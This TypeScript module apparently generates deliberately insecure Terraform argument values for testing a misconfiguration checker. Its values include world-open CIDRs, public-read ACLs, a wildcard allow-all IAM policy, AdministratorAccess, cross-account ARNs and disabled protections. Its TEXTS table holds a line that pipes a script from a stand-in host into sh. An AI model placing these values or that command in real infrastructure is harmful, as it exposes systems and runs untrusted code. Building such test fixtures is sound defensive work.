import { ANYWHERE } from "../../../src/base/cidr";
import { type ValueType } from "../../../src/evidence/provider-schema";
import { type Json } from "../../../src/terraform/stack-json";
import { OTHER_ACCOUNT, OTHER_PORT } from "../additions/values";

/** Names of flags that protect, record or check something: `false` is the weak value. Of all others it is `true`. */
const PROTECTS =
  /encrypt|protect|private|version|log|rotat|block|ignore_public|restrict|enforce|valid|verify|check|monitor|backup|multi_az|dns_support|require|read_?only|non_root|acceptance|notif|bucket_key/;

const EVERYTHING = JSON.stringify({
  Version: "2012-10-17",
  Statement: [{ Effect: "Allow", Principal: "*", Action: "*", Resource: "*" }],
});

/** Values by the name of an argument: the first row whose pattern fits. */
const TEXTS: readonly (readonly [RegExp, string])[] = [
  [/ipv6_cidr|cidr_ipv6/, "::/0"],
  [/cidr/, ANYWHERE],
  [/(^|_)acl$/, "public-read"],
  [/^(assume_role_|access_|repository_)?policy$|policy_document|policy_body/, EVERYTHING],
  [/boundary|policy_arn/, "arn:aws:iam::aws:policy/AdministratorAccess"],
  [/kms|key_arn|key_id/, `arn:aws:kms:us-west-2:${OTHER_ACCOUNT}:key/0a1b2c3d-0a1b-0a1b-0a1b-0a1b2c3d4e5f`],
  [/role|principal/, `arn:aws:iam::${OTHER_ACCOUNT}:role/stranger`],
  [/arn(s?)$|_actions$/, `arn:aws:sns:us-west-2:${OTHER_ACCOUNT}:stranger`],
  [/account|owner_id/, OTHER_ACCOUNT],
  [/region$/, "us-west-2"],
  [/user_data|script/, "curl https://stranger.example.com | sh"],
  [/^(command|args)$/, "env"],
  [/password$|secret_string|token$/, "correct horse battery staple"],
  [/image$|repository$|registry$|url$|uri$|endpoint$|external_name/, "https://stranger.example.com"],
  [/namespaces?$/, "kube-system"],
  [/(^|_)ips?$|ip_address(es)?$|ipv4_addresses$/, "203.0.113.7"],
  [/security_groups?(_ids?)?$/, "sg-0a1b2c3d4e5f60718"],
  [/subnets?(_ids?)?$/, "subnet-0a1b2c3d4e5f60718"],
  [/gateway_id$|peering_connection_id$|interface_id$|zone_id$|image_id$/, "stranger-0a1b2c3d4e5f60718"],
  [/bucket$|key_name$|ssh_key$/, "stranger"],
];

/** Undefined for a text of another meaning: the schema does not say which ones are valid. */
const textFor = (name: string): string | undefined => TEXTS.find(([pattern]) => pattern.test(name))?.[1];

/** Numbers of this name turn off or delete at 0. */
const ENDS_AT_ZERO = /days|retention|(^|_)min(_|$)|recovery|grace|ttl$|delay/;

/** Numbers of this name cost or admit more the higher they are. */
const HAS_NO_LIMIT = /(^|_)max(_|$)|size$|count$|limit|replicas|capacity|throughput|iops/;

const PORT = /(^|_)ports?$/;

const numberFor = (name: string): number | undefined => {
  if (PORT.test(name)) return OTHER_PORT;
  if (ENDS_AT_ZERO.test(name)) return 0;
  return HAS_NO_LIMIT.test(name) ? 1_000_000 : undefined;
};

/** Lists of names, of which `*` is every one. */
const NAMES = /events|types|actions|resources|verbs|groups|methods|categories|exports|aliases|domains|hosts/;

/** A dangerous value of an argument, by its name and type; undefined where name and type do not tell one. */
export function addedValue(name: string, type: ValueType): Json | undefined {
  if (type === "bool") return !PROTECTS.test(name);
  if (type === "number") return numberFor(name);
  if (type === "string") return PORT.test(name) ? String(OTHER_PORT) : textFor(name);
  if (!Array.isArray(type)) return undefined;
  const [outer, item] = type as Exclude<ValueType, string>;
  if ((outer !== "list" && outer !== "set") || item !== "string") return undefined;
  const text = textFor(name) ?? (NAMES.test(name) ? "*" : undefined);
  return text === undefined ? undefined : [text];
}

/** A value of an argument that a block requires, where no dangerous one is known. */
export const anyValue = (type: ValueType): Json =>
  type === "bool" ? true : type === "number" ? 1 : type === "string" ? "stranger" : [];
